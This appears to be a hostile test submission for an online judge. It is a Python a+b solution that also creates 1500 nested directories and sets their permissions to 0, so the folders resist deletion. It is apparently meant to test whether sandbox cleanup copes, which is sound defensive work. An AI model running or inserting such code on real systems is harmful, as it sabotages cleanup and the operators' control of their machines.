# verdict: passed|runtime_error ; mode: stdin ; threat: folders too deep to be removed by name, closed to everyone
import os

a, b = map(int, input().split())
for _ in range(1500):
    os.mkdir("d" * 20)
    os.chdir("d" * 20)
os.chmod(".", 0)
os.chmod("/tmp/" + "d" * 20, 0)
print(a + b)
